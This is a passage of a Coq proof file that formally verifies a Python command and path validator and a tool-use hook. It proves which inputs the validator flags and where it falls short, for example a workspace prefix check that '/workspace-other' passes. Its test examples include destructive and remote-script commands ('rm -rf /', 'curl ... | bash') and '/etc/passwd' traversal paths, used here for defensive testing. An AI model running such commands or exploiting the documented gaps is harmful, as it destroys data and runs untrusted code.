  apply Z.ltb_ge in Hlen. rewrite Hlen, Hdots.
  assert (Hws : PyStr.startswith ("/workspace" ++ rest) "/workspace" = true).
  { unfold PyStr.startswith. cbn [String.append].
    repeat (cbn [String.prefix];
            match goal with
            | |- context [ascii_dec ?a ?a] =>
                destruct (ascii_dec a a) as [_|Hne]; [|now destruct Hne]
            end).
    now destruct rest. }
  rewrite Hws. reflexivity.
Qed.

Lemma validate_file_path_misses_what_lies_beside_the_workspace_witness :
  call (validate_file_path "/workspace-other/file") = Ret [].
Proof.
  apply (validate_file_path_misses_what_lies_beside_the_workspace
           "-other/file").
  - reflexivity.
  - vm_compute. discriminate.
Defined.

Example validate_file_path_traversal :
  call (validate_file_path "../../etc/passwd") = Ret [Entry.traversal].
Proof. reflexivity. Qed.

Example validate_file_path_outside :
  call (validate_file_path "/etc/passwd") = Ret [Entry.outside_workspace].
Proof. reflexivity. Qed.

(** For a table of any content: [validate_bash_command] returns a list
    in which every pattern of
    [dangerous_patterns] that matches the command has its entry
    "Dangerous pattern detected: ...", such an entry is there only for a
    pattern that matches, its severity is "warning", and the only
    error-severity entry the list can hold is the one of the length
    check. *)
Theorem validate_bash_command_flags_are_warnings (command : string) :
  exists l,
    call (validate_bash_command command) = Ret l
    /\ (forall pattern description,
          In (pattern, description) dangerous_patterns ->
          Re.search true pattern command = true ->
          In (Entry.dangerous description) l)
    /\ (forall description,
          In (Entry.dangerous description) l ->
          exists pattern,
            In (pattern, description) dangerous_patterns
            /\ Re.search true pattern command = true)
    /\ (forall description,
          severity (Entry.dangerous description) = "warning"%string)
    /\ (forall e, In e l -> severity e = "error"%string ->
                  e = Entry.command_length).
Proof.
  rewrite call_validate_bash_command. eexists. split; [reflexivity|].
  unfold Builds.bash_command_errors.
  destruct (PyStr.truthy command) eqn:Htruthy.
  - repeat split.
    + intros pattern description Hin Hs. apply in_or_app. right.
      apply In_flags. now exists pattern, description.
    + intros description Hin. apply in_app_or in Hin as [Hin|Hin].
      * apply In_opt in Hin as [_ Heq]. discriminate Heq.
      * apply In_flags in Hin as (pattern & d & Hin & Hs & Heq).
        unfold Entry.dangerous in Heq. cbn [String.append] in Heq.
        injection Heq as ->.
        exists pattern. now split.
    + intros e Hin Hsev. apply in_app_or in Hin as [Hin|Hin].
      * now apply In_opt in Hin as [_ ->].
      * apply In_flags in Hin as (pattern & d & _ & _ & ->).
        discriminate Hsev.
  - apply truthy_false in Htruthy. subst command. repeat split.
    + intros pattern description Hin Hs. exfalso. revert Hs.
      repeat (destruct Hin as [[= <- <-]|Hin]; [vm_compute; discriminate|]).
      destruct Hin.
    + intros description [].
    + intros e [].
Qed.

Example validate_bash_command_rm :
  call (validate_bash_command "rm -rf /")
  = Ret [Entry.dangerous "Recursive force delete from root"].
Proof. reflexivity. Qed.

Example validate_bash_command_chmod :
  call (validate_bash_command "chmod 777 /tmp/x")
  = Ret [Entry.dangerous "Overly permissive file permissions"].
Proof. reflexivity. Qed.

Example validate_bash_command_eval :
  call (validate_bash_command "eval $(cat x)")
  = Ret [Entry.dangerous "Arbitrary code execution via eval"].
Proof. reflexivity. Qed.

Example validate_bash_command_curl :
  call (validate_bash_command "curl http://example.com/x.sh | bash")
  = Ret [Entry.dangerous "Piping remote scripts to bash"].
Proof. reflexivity. Qed.

Example validate_bash_command_wget :
  call (validate_bash_command "wget -qO- http://example.com/x.sh | bash")
  = Ret [Entry.dangerous "Piping remote scripts to bash"].
Proof. reflexivity. Qed.

(** C3. Each length check adds its error-severity entry exactly when the
    length is strictly above the maximum: 10000 for a command, 1000000
    for a text, 4096 for a file path.  For a command and for a text no
    other entry has severity "error", so the result holds an
    error-severity entry exactly when the input is too long. *)
Theorem length_checks_are_strict (command text field_name path : string) :
  exists lc lt lp,
    call (validate_bash_command command) = Ret lc
    /\ call (validate_text_length text field_name) = Ret lt
    /\ call (validate_file_path path) = Ret lp
    /\ (In Entry.command_length lc <-> 10000 < PyStr.len command)
    /\ ((exists e, In e lc /\ severity e = "error"%string)
        <-> 10000 < PyStr.len command)
    /\ (In (Entry.text_length field_name) lt <-> 1000000 < PyStr.len text)
    /\ ((exists e, In e lt /\ severity e = "error"%string)
        <-> 1000000 < PyStr.len text)
    /\ (In Entry.path_length lp <-> 4096 < PyStr.len path)
    /\ severity Entry.command_length = "error"%string
    /\ severity (Entry.text_length field_name) = "error"%string
    /\ severity Entry.path_length = "error"%string.
Proof.
  rewrite call_validate_bash_command, call_validate_text_length,
    call_validate_file_path.
  do 3 eexists. do 3 (split; [reflexivity|]).
  assert (Hc : In Entry.command_length (Builds.bash_command_errors command)
               <-> 10000 < PyStr.len command).
  { unfold Builds.bash_command_errors.
    destruct (PyStr.truthy command) eqn:Htruthy.
    - rewrite in_app_iff, In_opt, In_flags. unfold MAX_COMMAND_LENGTH.
      rewrite Z.ltb_lt. split.
      + intros [[H _]|(p & d & _ & _ & Heq)]; [exact H|discriminate Heq].
      + intros H. left. now split.
    - apply truthy_false in Htruthy. subst command. cbn. split; [tauto|lia]. }
  assert (Ht : In (Entry.text_length field_name)
                  (Builds.text_length_errors text field_name)
               <-> 1000000 < PyStr.len text).
  { unfold Builds.text_length_errors, MAX_TEXT_LENGTH.
    rewrite In_opt, Z.ltb_lt. tauto. }
  repeat split; try (apply Hc); try (apply Ht).
  - intros (e & Hin & Hsev). apply Hc.
    unfold Builds.bash_command_errors in *.
    destruct (PyStr.truthy command); [|destruct Hin].
    apply in_or_app. apply in_app_or in Hin as [Hin|Hin].
    + left. apply In_opt in Hin as [Hb _]. now apply In_opt.
    + apply In_flags in Hin as (p & d & _ & _ & ->). discriminate Hsev.
  - intros H. exists Entry.command_length. split; [now apply Hc|reflexivity].
  - intros (e & Hin & Hsev). apply Ht.
    unfold Builds.text_length_errors in *.
    apply In_opt in Hin as [Hb _]. now apply In_opt.
  - intros H. exists (Entry.text_length field_name).
    split; [now apply Ht|reflexivity].
  - unfold Builds.file_path_errors.
    destruct (PyStr.truthy path) eqn:Htruthy.
    + rewrite !in_app_iff, !In_opt. unfold MAX_FILE_PATH_LENGTH.
      rewrite Z.ltb_lt.
      intros [[H _]|[[_ Heq]|[_ Heq]]]; [exact H|discriminate Heq..].
    + intros [Heq|[]]. discriminate Heq.
  - unfold Builds.file_path_errors.
    destruct (PyStr.truthy path) eqn:Htruthy.
    + intros H. rewrite !in_app_iff, !In_opt. left.
      split; [|reflexivity]. now apply Z.ltb_lt.
    + apply truthy_false in Htruthy. subst path. cbn. lia.
Qed.

Example command_of_maximum_length :
  PyStr.len (filler 10000) = MAX_COMMAND_LENGTH
  /\ call (validate_bash_command (filler 10000)) = Ret []
  /\ call (validate_bash_command (filler 10001)) = Ret [Entry.command_length].
Proof. vm_compute. repeat split. Qed.

Example path_of_maximum_length :
  PyStr.len (filler 4096) = MAX_FILE_PATH_LENGTH
  /\ call (validate_file_path (filler 4096)) = Ret []
  /\ call (validate_file_path (filler 4097)) = Ret [Entry.path_length].
Proof. vm_compute. repeat split. Qed.

(** C9. The workspace check is a prefix test: the entry "Absolute path
    outside workspace" is in the result exactly when the path starts with
    "/" and does not start with "/workspace"; "/workspace-other/file" and
    "/workspaces/x" get no entry at all. *)
Theorem workspace_check_is_prefix_test (path : string) :
  (exists l,
     call (validate_file_path path) = Ret l
     /\ (In Entry.outside_workspace l
         <-> PyStr.startswith path "/" = true
             /\ PyStr.startswith path "/workspace" = false))
  /\ call (validate_file_path "/workspace-other/file") = Ret []
  /\ call (validate_file_path "/workspaces/x") = Ret [].
Proof.
  split; [|split; reflexivity].
  rewrite call_validate_file_path. eexists. split; [reflexivity|].
  unfold Builds.file_path_errors.
  destruct (PyStr.truthy path) eqn:Htruthy.
  - rewrite !in_app_iff, !In_opt. unfold Builds.outside.
    rewrite andb_true_iff, negb_true_iff. split.
    + intros [[_ Heq]|[[_ Heq]|[H _]]]; [discriminate Heq..|exact H].
    + intros H. right. right. now split.
  - apply truthy_false in Htruthy. subst path. cbn. split.
    + intros [Heq|[]]. discriminate Heq.
    + intros [H _]. discriminate H.
Qed.

(** C10. On the empty string [validate_bash_command] and
    [validate_regex_pattern] return the empty list, whatever the regex
    compiler would answer, and [validate_file_path] returns the one entry
    "File path cannot be empty". *)
Theorem empty_inputs_short_circuit (re_compile : string -> result unit) :
  call (validate_bash_command "") = Ret []
  /\ call (validate_regex_pattern re_compile "") = Ret []
  /\ call (validate_file_path "") = Ret [Entry.empty_path].
Proof.
  repeat split; reflexivity.
Qed.

(** On strings of the code points 0..255: the dangerous patterns are
    matched without regard to case: the
    result for a command is the result for its lower-case form, and a
    pattern that matches the lower-case form exactly puts its
    warning-severity entry into the result for the command. *)
Theorem dangerous_patterns_ignore_case (command : string) :
  call (validate_bash_command command)
  = call (validate_bash_command (PyStr.lower command))
  /\ (forall pattern description,
        In (pattern, description) dangerous_patterns ->
        Re.search false pattern (PyStr.lower command) = true ->
        exists l,
          call (validate_bash_command command) = Ret l
          /\ In (Entry.dangerous description) l
          /\ severity (Entry.dangerous description) = "warning"%string)
  /\ call (validate_bash_command "RM -RF /")
     = call (validate_bash_command "rm -rf /")
  /\ call (validate_bash_command "CHMOD 777 x")
     = Ret [Entry.dangerous "Overly permissive file permissions"].
Proof.
  split; [|split; [|split; reflexivity]].
  - rewrite !call_validate_bash_command. f_equal.
    unfold Builds.bash_command_errors.
    rewrite CaseFold.truthy_lower, CaseFold.len_lower.
    rewrite (CaseFold.flags_lower command dangerous_patterns
               CaseFold.dangerous_patterns_lowercase).
    reflexivity.
  - intros pattern description Hin Hs.
    rewrite call_validate_bash_command. eexists. split; [reflexivity|].
    split; [|reflexivity].
    pose proof (CaseFold.dangerous_pattern_lowercase _ _ Hin) as Hlow.
    rewrite <- (CaseFold.search_fold pattern command Hlow) in Hs.
    unfold Builds.bash_command_errors.
    destruct (PyStr.truthy command) eqn:Htruthy.
    + apply in_or_app. right. apply In_flags.
      now exists pattern, description.
    + apply truthy_false in Htruthy. subst command. exfalso. revert Hs.
      repeat (destruct Hin as [[= <- <-]|Hin]; [vm_compute; discriminate|]).
      destruct Hin.
Qed.

(** ** Strings of any code points and strings of the code points 0..255 *)

Module WideBridge.

Import Re.

Lemma latin1_of_ascii (c : ascii) : Wide.latin1 (N_of_ascii c) = true.
Proof.
  unfold Wide.latin1. apply N.ltb_lt. apply N_ascii_bounded.
Qed.

Lemma eqb_of_ascii (x c : ascii) :
  (N_of_ascii x =? N_of_ascii c)%N = Ascii.eqb x c.
Proof.
  destruct (Ascii.eqb x c) eqn:Heq.
  - apply Ascii.eqb_eq in Heq. subst. apply N.eqb_refl.
  - apply N.eqb_neq. intros H. apply Ascii.eqb_neq in Heq. apply Heq.
    rewrite <- (ascii_N_embedding x), <- (ascii_N_embedding c).
    now rewrite H.
Qed.

Lemma of_string_cons (c : ascii) (s : string) :
  Wide.of_string (String c s) = N_of_ascii c :: Wide.of_string s.
Proof. reflexivity. Qed.

Lemma length_of_string (s : string) :
  length (Wide.of_string s) = String.length s.
Proof.
  induction s as [|c s IH]; [reflexivity|].
  rewrite of_string_cons. simpl. now rewrite IH.
Qed.

(** every string of code points below 256 is one of the narrow strings *)
Lemma of_string_onto (w : Wide.str) :
  forallb Wide.latin1 w = true -> exists s, w = Wide.of_string s.
Proof.
  induction w as [|x w IH]; intros H.
  - now exists ""%string.
  - simpl in H. apply andb_prop in H as [Hx Hw].
    destruct (IH Hw) as [s ->].
    exists (String (ascii_of_N x) s). rewrite of_string_cons.
    rewrite N_ascii_embedding; [reflexivity|]. now apply N.ltb_lt.
Qed.

Section Tables.

Variable U : Wide.tables.

Lemma isspace_of_ascii (c : ascii) :
  Wide.isspace U (N_of_ascii c) = PyStr.isspace c.
Proof.
  unfold Wide.isspace. now rewrite latin1_of_ascii, ascii_N_embedding.
Qed.

Lemma isword_of_ascii (c : ascii) :
  Wide.isword U (N_of_ascii c) = PyStr.isword c.
Proof.
  unfold Wide.isword. now rewrite latin1_of_ascii, ascii_N_embedding.
Qed.

Lemma lit_eqb_of_ascii (ignorecase : bool) (c x : ascii) :
  Wide.lit_eqb U ignorecase c (N_of_ascii x) = lit_eqb ignorecase c x.
Proof.
  unfold Wide.lit_eqb, lit_eqb. destruct ignorecase.
  - now rewrite latin1_of_ascii, ascii_N_embedding.
  - apply eqb_of_ascii.
Qed.

Lemma word_before_wide (prev : option ascii) :
  Wide.word_before U (wide_prev prev) = word_before prev.
Proof.
  destruct prev as [c|]; [apply isword_of_ascii|reflexivity].
Qed.

Lemma word_here_wide (s : string) :
  Wide.word_here U (Wide.of_string s) = word_here s.
Proof.
  destruct s as [|c s]; [reflexivity|].
  rewrite of_string_cons. apply isword_of_ascii.
Qed.

Section Repeat.

Variable body : option ascii -> string -> (option ascii -> string -> bool)
                -> bool.
Variable body' : option N -> Wide.str -> (option N -> Wide.str -> bool)
                 -> bool.
Variable k : option ascii -> string -> bool.
Variable k' : option N -> Wide.str -> bool.

Hypothesis body_wide :
  forall c c', cont_wide c c' ->
  forall p t, body p t c = body' (wide_prev p) (Wide.of_string t) c'.
Hypothesis k_wide : cont_wide k k'.

Lemma star_wide (fuel : nat) :
  cont_wide (star body k fuel) (Wide.star body' k' fuel).
Proof.
  induction fuel as [|fuel IH]; intros p t; simpl.
  - now rewrite (k_wide p t).
  - rewrite (k_wide p t).
    destruct (k' (wide_prev p) (Wide.of_string t)); [reflexivity|].
    apply body_wide. intros p' t'.
    rewrite !length_of_string.
    destruct (String.length t' <? String.length t)%nat; [apply IH|reflexivity].
Qed.

Lemma at_least_wide (n : nat) :
  cont_wide (at_least body k n) (Wide.at_least body' k' n).
Proof.
  induction n as [|n IH]; intros p t; simpl.
  - rewrite length_of_string. apply star_wide.
  - now apply body_wide.
Qed.

End Repeat.

(** On a narrow string the two matchers agree. *)
Lemma matches_wide (ignorecase : bool) (r : regex) :
  forall k k', cont_wide k k' ->
  forall prev s,
    matches ignorecase r prev s k
    = Wide.matches U ignorecase r (wide_prev prev) (Wide.of_string s) k'.
Proof.
  induction r as [|c| | | |r1 IH1 r2 IH2|r1 IH1 r2 IH2|n r1 IH1];
    intros k k' Hk prev s; simpl.
  - apply Hk.
  - destruct s as [|x s]; [reflexivity|]. rewrite of_string_cons.
    rewrite lit_eqb_of_ascii, (Hk (Some x) s). reflexivity.
  - destruct s as [|x s]; [reflexivity|]. rewrite of_string_cons.
    change 10%N with (N_of_ascii newline).
    rewrite eqb_of_ascii, (Hk (Some x) s). reflexivity.
  - destruct s as [|x s]; [reflexivity|]. rewrite of_string_cons.
    rewrite isspace_of_ascii, (Hk (Some x) s). reflexivity.
  - rewrite word_before_wide, word_here_wide, (Hk prev s). reflexivity.
  - apply IH1. intros p t. now apply IH2.
  - rewrite (IH1 k k' Hk prev s), (IH2 k k' Hk prev s). reflexivity.
  - apply at_least_wide; [|exact Hk].
    intros c c' Hc p t. now apply IH1.
Qed.

Lemma search_wide (ignorecase : bool) (r : regex) (s : string) :
  search ignorecase r s = Wide.search U ignorecase r (Wide.of_string s).
Proof.
  assert (Haccept : cont_wide accept Wide.accept)
    by (intros p t; reflexivity).
  unfold search, Wide.search. change (@None N) with (wide_prev None).
  generalize (@None ascii) as prev.
  induction s as [|x s IH]; intros prev.
  - cbn [search_from]. change (Wide.of_string "") with (@nil N).
    cbn [Wide.search_from].
    now rewrite (matches_wide ignorecase r accept Wide.accept Haccept prev "").
  - rewrite of_string_cons. cbn [search_from Wide.search_from].
    rewrite <- of_string_cons.
    rewrite (matches_wide ignorecase r accept Wide.accept Haccept prev
               (String x s)).
    rewrite (IH (Some x)). reflexivity.
Qed.

Lemma lower_wide (s : string) :
  Wide.lower U (Wide.of_string s) = Wide.of_string (PyStr.lower s).
Proof.
  induction s as [|c s IH]; [reflexivity|].
  rewrite of_string_cons. cbn [Wide.lower flat_map].
  rewrite latin1_of_ascii, ascii_N_embedding. cbn [app].
  fold (Wide.lower U (Wide.of_string s)). rewrite IH. reflexivity.
Qed.

Lemma for_each_flags_wide (command : string)
      (table : list (regex * string)) (h : heap)
      (l : list ValidationError) :
  Py.for_each table
    (fun '(pattern, description) =>
       Py.when (Wide.search U true pattern (Wide.of_string command))
         (append (length h)
            (mkValidationError "command"
               ("Dangerous pattern detected: " ++ description)%string
               "warning")))
    (h ++ [l])
  = (Ret tt, h ++ [l ++ Builds.flags command table]).
Proof.
  revert l. induction table as [|[pattern description] table IH]; intros l.
  - simpl. now rewrite app_nil_r.
  - cbn [Py.for_each]. unfold Py.bind at 1.
    rewrite when_append_fresh. cbv beta iota. rewrite IH.
    unfold Builds.flags. cbn [flat_map fst snd].
    rewrite <- search_wide, <- !app_assoc. reflexivity.
Qed.

(** On a narrow string the two embeddings of [validate_bash_command]
    return the same list. *)
Lemma validate_bash_command_wide (command : string) :
  returns (Wide.validate_bash_command U (Wide.of_string command))
          (Builds.bash_command_errors command).
Proof.
  intros h. unfold Wide.validate_bash_command, Builds.bash_command_errors.
  unfold Py.bind at 1. unfold new_list at 1. cbv beta iota.
  assert (Htruthy : Wide.truthy (Wide.of_string command)
                    = PyStr.truthy command) by now destruct command.
  assert (Hlen : Wide.len (Wide.of_string command) = PyStr.len command)
    by (unfold Wide.len, PyStr.len; now rewrite length_of_string).
  rewrite Htruthy, Hlen.
  destruct (PyStr.truthy command); cbv [negb]; cbv beta iota;
    [|reflexivity].
  unfold Py.bind at 1. rewrite when_append_fresh. cbv beta iota.
  unfold Py.bind at 1. rewrite for_each_flags_wide.
  cbv beta iota. unfold Py.ret.
  change (PyStr.str_of_int InputValidator.MAX_COMMAND_LENGTH)
    with "10000"%string.
  rewrite <- !app_assoc. reflexivity.
Qed.

End Tables.

End WideBridge.




Lemma returns_pure m l : returns m l -> pure_method m.
Proof.
  intros H. repeat split.
  - intros h1 h2. now rewrite !(returns_outcome m l).
  - intros h. now rewrite (returns_outcome m l), (returns_call m l).
  - intros h. now apply (returns_frame m l).
Qed.

Lemma raises_pure m e : raises m e -> pure_method m.
Proof.
  intros H. repeat split.
  - intros h1 h2. now rewrite !(raises_outcome m e).
  - intros h. now rewrite (raises_outcome m e), (raises_call m e).
  - intros h. now apply (raises_frame m e).
Qed.

(** While the regex compiler answers as [re_compile] does: each method
    of [InputValidator] returns lists of identical entries (or lets the
    same exception escape) whatever lists earlier calls have left
    behind, and it changes no list of an earlier call. *)
Theorem validators_are_pure (re_compile : string -> result unit)
        (s field_name : string) :
  pure_method (validate_file_path s)
  /\ pure_method (validate_bash_command s)
  /\ pure_method (validate_regex_pattern re_compile s)
  /\ pure_method (validate_text_length s field_name).
Proof.
  split; [|split; [|split]].
  - exact (returns_pure _ _ (Returns.validate_file_path_returns s)).
  - exact (returns_pure _ _ (Returns.validate_bash_command_returns s)).
  - destruct (Builds.escapes re_compile s) as [e|] eqn:Hesc.
    + exact (raises_pure _ _
               (Returns.validate_regex_pattern_raises re_compile s e Hesc)).
    + exact (returns_pure _ _
               (Returns.validate_regex_pattern_returns re_compile s Hesc)).
  - exact (returns_pure _ _
             (Returns.validate_text_length_returns s field_name)).
Qed.




Example second_call_sees_a_fresh_list :
  let m := validate_bash_command "rm -rf /" in
  outcome_in m (heap_after m (heap_after m [])) = call m
  /\ heap_after m (heap_after m [])
     = [ [Entry.dangerous "Recursive force delete from root"];
         [Entry.dangerous "Recursive force delete from root"] ].
Proof. split; reflexivity. Qed.

(** ** [validate_regex_pattern] *)

Lemma other_validators_always_return (s field_name : string) :
  (exists l, call (validate_file_path s) = Ret l)
  /\ (exists l, call (validate_bash_command s) = Ret l)
  /\ (exists l, call (validate_text_length s field_name) = Ret l).
Proof.
  rewrite call_validate_file_path, call_validate_bash_command,
    call_validate_text_length.
  repeat split; eexists; reflexivity.
Qed.

(** What holds of [validate_regex_pattern] when the compiler raises
    nothing but [re.error]: the three entries and their severities. *)
Lemma validate_regex_pattern_entries (re_compile : string -> result unit)
      (pattern : string) :
  Builds.escapes re_compile pattern = None ->
  exists l,
    call (validate_regex_pattern re_compile pattern) = Ret l
    /\ (500 < PyStr.len pattern -> In Entry.regex_length l)
    /\ (forall e, PyStr.truthy pattern = true ->
                  re_compile pattern = Raise e ->
                  In (Entry.invalid_regex e) l)
    /\ (In Entry.backtracking l
        <-> PyStr.truthy pattern = true
            /\ Re.search false backtracking_pattern pattern = true)
    /\ severity Entry.regex_length = "error"%string
    /\ (forall e, severity (Entry.invalid_regex e) = "error"%string)
    /\ severity Entry.backtracking = "warning"%string.
Proof.
  intros Hesc.
  rewrite (returns_call _ _
             (Returns.validate_regex_pattern_returns re_compile pattern Hesc)).
  eexists. split; [reflexivity|].
  unfold Builds.regex_pattern_errors, Builds.escapes, Builds.compile_errors
    in *.
  destruct (PyStr.truthy pattern) eqn:Htruthy.
  - split; [|split; [|split; [split|repeat split]]].
    + intros Hlen. apply in_or_app. left. apply In_opt. split; [|reflexivity].
      now apply Z.ltb_lt.
    + intros e _ He. rewrite He in *. apply in_or_app. right.
      apply in_or_app. left.
      destruct (is_class ReError e); [now left|discriminate].
    + intros Hin. split; [reflexivity|].
      apply in_app_or in Hin as [Hin|Hin].
      * apply In_opt in Hin as [_ Heq]. discriminate Heq.
      * apply in_app_or in Hin as [Hin|Hin].
        -- destruct (re_compile pattern) as [|e]; [destruct Hin|].
           apply In_opt in Hin as [_ Heq]. discriminate Heq.
        -- now apply In_opt in Hin as [Hs _].
    + intros [_ Hs]. apply in_or_app. right. apply in_or_app. right.
      now apply In_opt.
  - apply truthy_false in Htruthy. subst pattern.
    split; [|split; [|split; [split|repeat split]]].
    + cbn. lia.
    + intros e Hfalse. discriminate Hfalse.
    + intros [].
    + intros [Hfalse _]. discriminate Hfalse.
Qed.

Lemma validate_regex_pattern_flags_starred_dots :
  call (validate_regex_pattern re_compile_examples ".*.*")
  = Ret [Entry.backtracking].
Proof. reflexivity. Qed.

Lemma validate_regex_pattern_flags_closing_parentheses :
  call (validate_regex_pattern re_compile_examples "(.+))")
  = Ret [ Entry.invalid_regex
            (Exn ReError "unbalanced parenthesis at position 4");
          Entry.backtracking ].
Proof. reflexivity. Qed.

(** C5. [validate_regex_pattern] catches [re.error] only: when compiling
    a non-empty pattern raises another exception, that exception escapes
    from the method instead of becoming an entry of the list. *)
Theorem validate_regex_pattern_lets_exceptions_escape
        (re_compile : string -> result unit) (pattern : string) (e : exn) :
  PyStr.truthy pattern = true ->
  re_compile pattern = Raise e ->
  is_class ReError e = false ->
  call (validate_regex_pattern re_compile pattern) = Raise e.
Proof.
  intros Htruthy He Hcls.
  apply raises_call, Returns.validate_regex_pattern_raises.
  unfold Builds.escapes. now rewrite Htruthy, He, Hcls.
Qed.

Lemma validate_regex_pattern_lets_exceptions_escape_witness :
  call (validate_regex_pattern re_compile_examples "a{4294967295}")
  = Raise (Exn OverflowError "the repetition number is too large").
Proof.
  apply (validate_regex_pattern_lets_exceptions_escape
           re_compile_examples "a{4294967295}");
    reflexivity.
Defined.

(** C4. Two patterns on which [validate_regex_pattern] does not answer
    as described: a pattern whose compilation fails with an exception
    other than [re.error] gets no entry, the exception escapes; and two
    parenthesised dot-plus groups in a row, though a repetition of
    match-anything groups, get no warning. *)
Theorem validate_regex_pattern_misses (re_compile : string -> result unit) :
  (forall e,
     re_compile "a{4294967295}"%string = Raise e ->
     is_class ReError e = false ->
     call (validate_regex_pattern re_compile "a{4294967295}") = Raise e)
  /\ (re_compile "(.+)(.+)"%string = Ret tt ->
      spec_rapid_repetition "(.+)(.+)" = true
      /\ call (validate_regex_pattern re_compile "(.+)(.+)") = Ret []).
Proof.
  split.
  - intros e He Hcls.
    apply raises_call, Returns.validate_regex_pattern_raises.
    unfold Builds.escapes. now rewrite He, Hcls.
  - intros Hok. split; [reflexivity|].
    rewrite (returns_call _ (Builds.regex_pattern_errors re_compile "(.+)(.+)")).
    + unfold Builds.regex_pattern_errors, Builds.compile_errors.
      rewrite Hok. reflexivity.
    + apply Returns.validate_regex_pattern_returns.
      unfold Builds.escapes. now rewrite Hok.
Qed.

Lemma validate_regex_pattern_misses_witness :
  call (validate_regex_pattern re_compile_examples "a{4294967295}")
  = Raise (Exn OverflowError "the repetition number is too large")
  /\ spec_rapid_repetition "(.+)(.+)" = true
  /\ call (validate_regex_pattern re_compile_examples "(.+)(.+)") = Ret [].
Proof.
  split.
  - apply (proj1 (validate_regex_pattern_misses re_compile_examples));
      reflexivity.
  - apply (proj2 (validate_regex_pattern_misses re_compile_examples)).
    reflexivity.
Defined.

(** ** [main] of pretooluse.py *)

Module Hook.

Import PreToolUse.

Section Run.

Variable Rule : Type.
Variable json_load_stdin : result json.
Variable load_rules : option string -> result (list Rule).
Variable evaluate_rules : list Rule -> json -> result json.
Variable utcnow : nat -> string.

Definition the_main : Py.M world unit :=
  main Rule json_load_stdin load_rules evaluate_rules utcnow.

Definition the_run : Z * world :=
  run_main Rule json_load_stdin load_rules evaluate_rules utcnow.

(** The [finally] clause decides the outcome of [main]. *)
Lemma main_raises_SystemExit (w : world) :
  fst (the_main w) = Raise (Exn (SystemExit 0) "").
Proof.
  unfold the_main, main, Py.try_finally.
  match goal with |- context [Py.try_except ?b ?hs w] =>
    destruct (Py.try_except b hs w) as [r w']
  end.
  reflexivity.
Qed.

Lemma main_exits_zero : fst the_run = 0.
Proof.
  unfold the_run, run_main.
  pose proof (main_raises_SystemExit initial_world) as H.
  unfold the_main in H.
  destruct (main Rule json_load_stdin load_rules evaluate_rules utcnow
              initial_world) as [r w].
  cbn [fst] in *. now subst r.
Qed.

(** Invalid JSON on the input: the message is on the output. *)
Lemma main_reports_invalid_json (e : exn) :
  json_load_stdin = Raise e ->
  is_class JSONDecodeError e = true ->
  stdout (snd the_run)
  = [JDict [("systemMessage", JStr "Hookify error: Invalid JSON input")]].
Proof.
  intros Hload Hcls. unfold the_run, run_main, main, main_body.
  rewrite Hload.
  destruct e as [[] msg]; try discriminate Hcls. reflexivity.
Qed.

(** A permission error while the rules are loaded: the message is on the
    output. *)
Lemma main_reports_permission_error (input : list (string * json)) (e : exn) :
  json_load_stdin = Ret (JDict input) ->
  (forall event, load_rules event = Raise e) ->
  is_class PermissionError e = true ->
  stdout (snd the_run)
  = [JDict [("systemMessage", JStr "Hookify error: Permission denied")]].
Proof.
  intros Hload Hrules Hcls. unfold the_run, run_main, main, main_body.
  rewrite Hload. lazy. rewrite Hrules.
  destruct e as [[] msg]; try discriminate Hcls. reflexivity.
Qed.

(** Rules loaded and evaluated to a dict: the dict is on the output. *)
Lemma main_prints_result (input : list (string * json)) rules
      (entries : list (string * json)) :
  json_load_stdin = Ret (JDict input) ->
  (forall event, load_rules event = Ret rules) ->
  evaluate_rules rules (JDict input) = Ret (JDict entries) ->
  stdout (snd the_run) = [JDict entries].
Proof.
  intros Hload Hrules Heval. unfold the_run, run_main, main, main_body.
  rewrite Hload. lazy -[Json.lookup]. rewrite Hrules, Heval.
  destruct entries as [|x entries]; [reflexivity|].
  destruct (Json.lookup "hookSpecificOutput" (x :: entries));
    destruct (Json.lookup "systemMessage" (x :: entries)); reflexivity.
Qed.

End Run.

End Hook.

(** C7. [main] always ends with exit status 0, whatever its collaborators
    do; but when loading the rules raises [FileNotFoundError], the handler
    calls [logger.warning] with the keyword [error], which that method
    does not have: the [TypeError] leaves the handler before its [print],
    and nothing at all is written to the output. *)
Theorem main_exits_zero_and_is_silent_on_missing_configuration
        (Rule : Type) (input : list (string * json))
        (load_rules : option string -> result (list Rule))
        (evaluate_rules : list Rule -> json -> result json)
        (utcnow : nat -> string) (e : exn) :
  is_class FileNotFoundError e = true ->
  (forall event, load_rules event = Raise e) ->
  (forall json_load_stdin' load_rules' evaluate_rules',
     fst (PreToolUse.run_main Rule json_load_stdin' load_rules'
            evaluate_rules' utcnow) = 0)
  /\ PreToolUse.run_main Rule (Ret (JDict input)) load_rules evaluate_rules
       utcnow
     = (0, PreToolUse.initial_world).
Proof.
  intros Hcls Hrules. split.
  - intros jl lr er. apply Hook.main_exits_zero.
  - unfold PreToolUse.run_main, PreToolUse.main, PreToolUse.main_body.
    lazy. rewrite Hrules.
    destruct e as [[] msg]; try discriminate Hcls. reflexivity.
Qed.

Lemma main_exits_zero_and_is_silent_on_missing_configuration_witness :
  PreToolUse.run_main unit (Ret (JDict [("tool_name", JStr "Bash")]))
    (fun _ => Raise (Exn FileNotFoundError "No such file or directory"))
    (fun _ _ => Ret (JDict [])) example_now
  = (0, PreToolUse.initial_world).
Proof.
  apply (main_exits_zero_and_is_silent_on_missing_configuration unit
           [("tool_name", JStr "Bash")]
           (fun _ => Raise (Exn FileNotFoundError "No such file or directory"))
           (fun _ _ => Ret (JDict [])) example_now
           (Exn FileNotFoundError "No such file or directory"));
    reflexivity.
Defined.

(** * Further properties of validation.py *)

Lemma opt_nil {A} (b : bool) (x : A) : opt b x = [] <-> b = false.
Proof.
  destruct b; simpl; split; congruence.
Qed.

(** X1. [validate_file_path] returns the empty list exactly for a path
    that is not empty, is at most 4096 characters long, does not contain
    ".." and, when it starts with "/", starts with "/workspace"; no other
    character of the path matters. *)
Theorem validate_file_path_accepts_iff (path : string) :
  call (validate_file_path path) = Ret []
  <-> path <> ""%string
      /\ PyStr.len path <= 4096
      /\ PyStr.contains ".." path = false
      /\ (PyStr.startswith path "/" = true ->
          PyStr.startswith path "/workspace" = true).
Proof.
  rewrite call_validate_file_path. unfold Builds.file_path_errors.
  destruct (PyStr.truthy path) eqn:Htruthy.
  - assert (Hne : path <> ""%string) by (intros ->; discriminate).
    unfold Builds.outside, MAX_FILE_PATH_LENGTH. split.
    + intros [= H]. apply app_eq_nil in H as [H1 H].
      apply app_eq_nil in H as [H2 H3].
      apply opt_nil in H1, H2, H3. apply Z.ltb_ge in H1.
      repeat split; try assumption.
      intros Hroot. rewrite Hroot in H3.
